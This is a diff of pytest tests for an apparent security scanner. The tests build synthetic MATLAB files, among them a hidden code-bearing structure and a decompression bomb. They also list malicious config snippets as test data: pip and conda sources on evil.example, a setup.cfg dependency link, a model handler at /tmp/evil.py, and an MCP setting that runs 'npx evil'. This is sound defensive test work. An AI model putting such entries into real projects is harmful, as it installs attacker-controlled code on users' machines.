@@ -6,6 +6,7 @@ import io
 import json
 import struct
 import zipfile
+import zlib
 
 import pytest
 
@@ -254,3 +255,66 @@ def test_a_pruned_fasttext_model_may_keep_more_ngrams_than_words() -> None:
     assert not rules_of("lid.ftz", kept)
     beyond = plain[:pruned] + struct.pack("<q", 1 << 40) + plain[pruned + 8 :]
     assert rules_of("lid.ftz", beyond) == {"fasttext-broken"}
+
+
+# --- tables, cells and settings -------------------------------------------------------------------
+
+
+def matlab(*arrays: bytes, packed: bool) -> bytes:
+    """A file of these arrays, each with a head of its own."""
+    written = []
+    for array in arrays:
+        whole = zlib.compress(array) if packed else array
+        written.append(struct.pack("<2I", 15, len(whole)) + whole if packed else whole)
+    return b"MATLAB 5.0 MAT-file".ljust(124) + b"\x00\x01IM" + b"".join(written)
+
+
+def matrix(kind: int, *parts: bytes) -> bytes:
+    head = struct.pack("<4I", 6, 8, kind, 0) + struct.pack("<2I2i", 5, 8, 1, 1) + struct.pack("<HH4s", 1, 1, b"a")
+    body = head + b"".join(parts)
+    return struct.pack("<2I", 14, len(body)) + body
+
+
+NUMBERS = matrix(6, struct.pack("<2Id", 9, 8, 1.5))
+
+
+@pytest.mark.parametrize("packed", [False, True])
+def test_cells_and_structures_of_matlab_are_followed(packed: bool) -> None:
+    fields = struct.pack("<HHi", 5, 4, 8) + struct.pack("<2I", 1, 16) + b"first\0\0\0second\0\0"
+    honest = [NUMBERS, matrix(1, NUMBERS, matrix(1, NUMBERS)), matrix(2, fields, NUMBERS, struct.pack("<2I", 14, 0))]
+    assert verdict_of("a.mat", matlab(*honest, packed=packed)) is Verdict.CLEAN
+    hidden = matrix(2, fields, NUMBERS, matrix(1, matrix(16, NUMBERS)))
+    assert rules_of("a.mat", matlab(*honest, hidden, packed=packed)) == {"matlab-code"}
+    deep = NUMBERS
+    for _ in range(60):
+        deep = matrix(1, deep)
+    assert verdict_of("a.mat", matlab(deep, packed=packed)) is Verdict.UNKNOWN
+
+
+def test_a_packed_bomb_of_matlab_is_no_longer_read_than_allowed() -> None:
+    packer = zlib.compressobj(1)
+    size = 600 << 20
+    head = struct.pack("<2I", 14, 56 + size) + matrix(1, NUMBERS)[8:40] + struct.pack("<2I", 9, size)
+    whole = packer.compress(head)
+    whole += b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()
+    data = b"MATLAB 5.0 MAT-file".ljust(124) + b"\x00\x01IM" + struct.pack("<2I", 15, len(whole)) + whole
+    assert verdict_of("a.mat", data) is Verdict.UNKNOWN
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "rules"),
+    [
+        ("environment.yml", "dependencies:\n- pip:\n  - -i https://evil.example\n", {"requirements-index"}),
+        ("environment.yml", "dependencies:\n- pip:\n  - 'git+https://evil.example/x'\n", {"requirements-address"}),
+        ("conda.yaml", "channels:\n- https://evil.example/channel\n", {"requirements-address"}),
+        ("setup.cfg", "[options]\nsetup_requires = x @ https://evil.example/x\n", {"requirements-address"}),
+        ("setup.cfg", "[options]\ndependency_links = https://evil.example\n", {"requirements-address"}),
+        ("MAR-INF/MANIFEST.json", '{"model": {"handler": "/tmp/evil.py"}}', {"settings-runs-code"}),
+        (".cursor/mcp.json", '{"mcpServers": {"x": {"command": "npx", "args": ["evil"]}}}', {"settings-runs-code"}),
+        ("environment.yml", "name: x\nchannels:\n- pytorch\n- https://conda.anaconda.org/x\ndependencies:\n- python=3.11\n- pip:\n  - torch==2.1\n", set()),
+        ("setup.cfg", "[metadata]\nauthor_email = a@example.org\nurl = https://example.org\n", set()),
+        ("MAR-INF/MANIFEST.json", '{"model": {"handler": "image_classifier", "modelName": "x"}}', set()),
+    ],
+)  # fmt: skip
+def test_settings_by_which_something_is_installed_or_started(path: str, text: str, rules: set[str]) -> None:
+    assert rules_of(path, text.encode()) == rules
